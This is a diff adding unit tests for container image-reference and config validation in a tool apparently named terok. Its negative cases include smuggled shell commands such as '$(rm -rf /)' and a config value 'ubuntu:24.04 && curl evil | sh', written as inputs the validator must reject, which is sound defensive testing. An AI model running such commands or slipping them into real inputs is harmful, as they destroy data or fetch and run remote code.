@@ -6,6 +6,11 @@
 import assert from 'node:assert/strict';
 import { test } from 'node:test';
 import { InvalidParamsError } from '../../../main/core/errors.ts';
+import { loadTerokConfig } from '../../../main/core/host/config.ts';
+import { ImageBuildError } from '../../../main/core/images/errors.ts';
+import { imageReferenceProblem } from '../../../main/core/images/family.ts';
+import { configBaseImageProblem, parseBuildParams, parseSidecarParams } from '../../../main/core/images/params.ts';
+import { createSandboxHost } from '../../support/host.ts';
 import { looksLikeSecret, MAX_PARAM_LENGTH, MAX_QUOTED, optBool, optStr, parseWith, quoteInput, taskParams, tooLong, WITHHELD } from '../../../main/core/validate.ts';
 
 const schema = taskParams({ s: optStr('s'), b: optBool('b'), n: optStr('n'), z: optStr('z') });
@@ -80,4 +85,62 @@ test('unknown keys are quoted through quoteInput and at most five are named', ()
   assert.throws(() => parseWith(s2, { ['k-'.repeat(250)]: 1 }, fail), (e: Error) => e.message === `unknown parameter(s): ${'k-'.repeat(40).slice(0, 79)}… (allowed: a)`);
   const many = Object.fromEntries(Array.from({ length: 9 }, (_, i) => [`x${i}`, i]));
   assert.throws(() => parseWith(s2, many, fail), /^Error: unknown parameter\(s\): x0, x1, x2, x3, x4, … \(4 more\) \(allowed: a\)$/);
+});
+
+// ---- images.build params: what an image reference is, and the configured default --------
+
+test('image references: the distribution grammar podman parses', () => {
+  for (const ok of ['ubuntu:24.04', 'fedora:44', 'debian', 'registry.example.com:5000/team/image:tag', 'localhost/x:latest', 'localhost:5000/custom:1',
+    'docker.io/library/ubuntu:24.04', `ubuntu@sha256:${'a'.repeat(64)}`, 'quay.io/podman/stable:v5', 'my/base:1', 'terok-l0:ubuntu-24.04', 'a__b/c.d-e:T_1']) {
+    assert.equal(imageReferenceProblem(ok), null, ok);
+  }
+  const bad: [string, RegExp][] = [
+    ['', /empty/],
+    ['a b', /spaces or control/],
+    ['ubuntu:24.04\n', /spaces or control/],
+    ['Ubuntu:24.04', /lowercase/],
+    ['ubuntu:', /tag after ':'/],
+    ['ubuntu:-x', /tag after ':'/],
+    ['ubuntu@sha256:xyz', /digest after '@'/],
+    ['/ubuntu', /name part is empty/],
+    ['team//image', /name part is empty/],
+    ['$(rm -rf /)', /spaces or control/],
+    ['$(reboot)', /name parts may hold only/],
+    ['ubuntu;ls', /tag after ':'|name parts/],
+    ['-x/y', /name parts may hold only/],
+    ['bad_host.example.com/x', /registry host/],
+    [`a/${'b'.repeat(300)}`, /longer than 255/],
+  ];
+  for (const [ref, why] of bad) assert.match(imageReferenceProblem(ref) ?? 'valid', why, JSON.stringify(ref));
+});
+
+test('a bad baseImage param is refused with the reason, quoted and cut short; base_image from config.yml is named as that key', () => {
+  assert.throws(() => parseBuildParams({ baseImage: 'Ubuntu:24.04' }, 'ubuntu:24.04'), (e: Error) => e instanceof ImageBuildError && e.message === "'Ubuntu:24.04' is not a valid image reference: repository names must be lowercase");
+  assert.throws(() => parseBuildParams({ baseImage: 'x'.repeat(256) }, 'ubuntu:24.04'), /^ImageBuildError: baseImage is too long \(at most 255 characters\)$/);
+  assert.throws(() => parseBuildParams({ agents: 'a,'.repeat(1001) }, 'ubuntu:24.04'), /agents is too long \(at most 2000 characters\)/);
+  // The default (config.yml's image.base_image) is malformed: the message names the key and the file.
+  const fromConfig = /^ImageBuildError: image\.base_image in config\.yml is not a valid image reference \('ubuntu 24\.04': it contains spaces or control characters\); fix it there/;
+  assert.throws(() => parseBuildParams({}, 'ubuntu 24.04'), fromConfig);
+  assert.throws(() => parseSidecarParams({}, 'ubuntu 24.04'), fromConfig);
+  // The gate's fix and the CLI pass the configured value on as the param: still named as the config key.
+  assert.throws(() => parseBuildParams({ baseImage: 'ubuntu 24.04' }, 'ubuntu 24.04'), fromConfig);
+  // An explicit, valid base image wins over a broken default.
+  assert.equal(parseBuildParams({ baseImage: 'fedora:44' }, 'ubuntu 24.04').baseImage, 'fedora:44');
+});
+
+test('configBaseImageProblem names the file that sets image.base_image, and the key', () => {
+  const host = createSandboxHost({ inheritPath: false });
+  try {
+    const file = host.write('home/.config/terok/config.yml', 'image:\n  base_image: "ubuntu:24.04 && curl evil | sh"\n');
+    assert.equal(configBaseImageProblem(loadTerokConfig(host.ctx)),
+      `image.base_image in ${file} is not a valid image reference ('ubuntu:24.04 && curl evil | sh': it contains spaces or control characters); fix it there, for example \`image: {base_image: ubuntu:24.04}\`, or choose a base image explicitly (--base).`);
+    host.write('home/.config/terok/config.yml', 'image:\n  base_image: 24.04\n');
+    assert.match(configBaseImageProblem(loadTerokConfig(host.ctx)) ?? '', /^image\.base_image in .*config\.yml is not a valid image reference \(a number: it must be a string\)/);
+    host.write('home/.config/terok/config.yml', 'image:\n  base_image: fedora:44\n');
+    assert.equal(configBaseImageProblem(loadTerokConfig(host.ctx)), null);
+    host.write('home/.config/terok/config.yml', '# nothing\n');
+    assert.equal(configBaseImageProblem(loadTerokConfig(host.ctx)), null);
+  } finally {
+    host.cleanup();
+  }
 });
